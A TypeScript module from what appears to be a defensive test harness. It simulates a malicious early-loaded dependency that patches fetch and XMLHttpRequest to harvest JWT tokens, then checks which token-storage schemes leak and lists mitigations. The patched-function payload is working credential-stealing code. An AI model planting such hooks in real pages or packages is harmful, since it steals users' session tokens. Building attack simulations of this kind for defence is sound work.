// Threat: a dependency is malicious (or its delivery was taken over): its script runs before the application's own and puts itself
// between the page and every way in or out. Expected: whatever token comes to the page's script is seen, also under a strict policy:
// the policy allows this script. Only a token that never comes to script stays.
import type { Attack } from '../attack.ts'
import { told } from '../scene.ts'
import { awaitLoot, judgeToken, scriptReport } from './loot.ts'
import type { Payload } from '../world/payload.ts'

const script: Payload = (kit) => {
  const look = (text: unknown): void => {
    const token = /eyJ[\w-]+\.[\w-]+\.[\w-]+/.exec(String(text))?.[0]
    if (token === undefined) return
    kit.take('token', token)
    void kit.flush()
  }
  const { fetch } = window
  window.fetch = async (input, init) => {
    look(new Headers(input instanceof Request ? input.headers : init?.headers).get('authorization'))
    const answer = await fetch(input, init)
    look(await answer.clone().text())
    return answer
  }
  const { setRequestHeader, send } = XMLHttpRequest.prototype
  XMLHttpRequest.prototype.setRequestHeader = function patched(name, value) {
    look(value)
    setRequestHeader.call(this, name, value)
  }
  XMLHttpRequest.prototype.send = function patched(body) {
    this.addEventListener('load', () => look(this.responseText))
    send.call(this, body)
  }
}

export const earlyHook: Attack = {
  name: 'early-hook',
  group: 'script, early',
  title: 'Puts itself before the application and watches everything',
  what: 'The dependency replaces fetch, XMLHttpRequest and Storage before the application starts, and reads what passes.',
  why: 'Who comes first owns every built-in that comes after. A strict policy lets this script in, and where connect-src forbids sending, it leaves by navigating.',
  stops:
    'Cookies that script never sees. Fewer dependencies, pinned and reviewed; subresource integrity for what others host.',
  script: { when: 'early', payload: script },
  control: 'local-storage',
  succeedsOn: [
    'local-storage',
    'session-storage',
    'readable-cookie',
    'variable',
    'tutorial',
    'hallpass',
    'hallpass-strict',
  ],
  async run(scene) {
    scene.injectEarly(script)
    const page = await scene.open()
    await told(page, 'ready')
    const installed = await scriptReport(scene)
    // Where the loot leaves by navigation, the page is gone before the person sees that they are signed in.
    const signing = scene.signIn(page).catch(() => undefined)
    const report = await Promise.race([awaitLoot(scene, 'token', 8_000), signing.then(() => awaitLoot(scene, 'token'))])
    return judgeToken(scene, page, { ...report, ran: installed.ran }, 'saw no token come or go')
  },
}
